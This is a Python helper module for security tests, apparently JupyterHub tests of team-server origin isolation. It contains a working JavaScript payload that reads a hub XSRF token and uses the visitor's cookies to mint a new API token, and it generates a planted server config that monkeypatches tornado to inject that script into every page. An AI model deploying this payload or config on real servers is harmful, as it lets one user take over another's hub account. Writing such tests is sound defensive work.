"""What a team member plants to steal a visitor's hub token, shared by the team-server origin tests
(tests/security/test_team_server_origin.py, test_team_server_subdomain.py).

``STEAL_JS`` is the page script: it reads the hub's XSRF token from a hub page (same origin: readable)
and asks the hub API for a new token of the visitor, with the visitor's cookies; first on its own origin,
then on the hub's address. ``planted_server_config`` is a member's ``~/.jupyter/jupyter_server_config.py``
that puts that script into every page the team server serves (and leaves a marker that it was loaded).
"""
from __future__ import annotations

import json

import requests

STEAL_JS = """
async ([hubBase, who]) => {
  const out = [];
  for (const base of ["", hubBase]) {
    let xsrf = "";
    try {
      const page = await (await fetch(base + "/hub/home", {credentials: "include"})).text();
      const m = page.match(/xsrf_token: "([^"]+)"/);
      if (m) xsrf = m[1];
    } catch (e) { out.push("home " + base + ": " + e); }
    try {
      const r = await fetch(base + "/hub/api/users/" + who + "/tokens", {method: "POST", credentials: "include",
        headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}, body: JSON.stringify({note: "planted"})});
      out.push("tokens " + base + ": " + r.status);
    } catch (e) { out.push("tokens " + base + ": " + e); }
  }
  return out;
}
"""


def steal_call(hub_base: str, who: str) -> str:
    """STEAL_JS as a self-running script (what a planted page runs by itself)."""
    return f"({STEAL_JS.strip()})({json.dumps([hub_base, who])});"


def planted_server_config(hub_base: str, who: str) -> str:
    """A member's ~/.jupyter/jupyter_server_config.py: the steal script in every HTML page, and a marker."""
    script = f"<script>{steal_call(hub_base, who)}</script>"
    return f'''
import os
import tornado.web

open(os.path.join(os.path.expanduser("~"), "PWNED-config"), "w").write("loaded")
_write = tornado.web.RequestHandler.write


def write(self, chunk):
    if isinstance(chunk, str) and "</body>" in chunk:
        chunk = chunk.replace("</body>", {script!r} + "</body>")
    return _write(self, chunk)


tornado.web.RequestHandler.write = write
'''


def tokens_of(hub, name: str) -> set[str]:
    """The ids of NAME's API tokens (the admin's view through the hub API)."""
    r = requests.get(f"{hub.url}/hub/api/users/{name}/tokens", headers={"Authorization": f"token {hub.token}"},
                     timeout=30)
    assert r.status_code == 200, r.text[:300]
    return {t["id"] for t in r.json()["api_tokens"]}
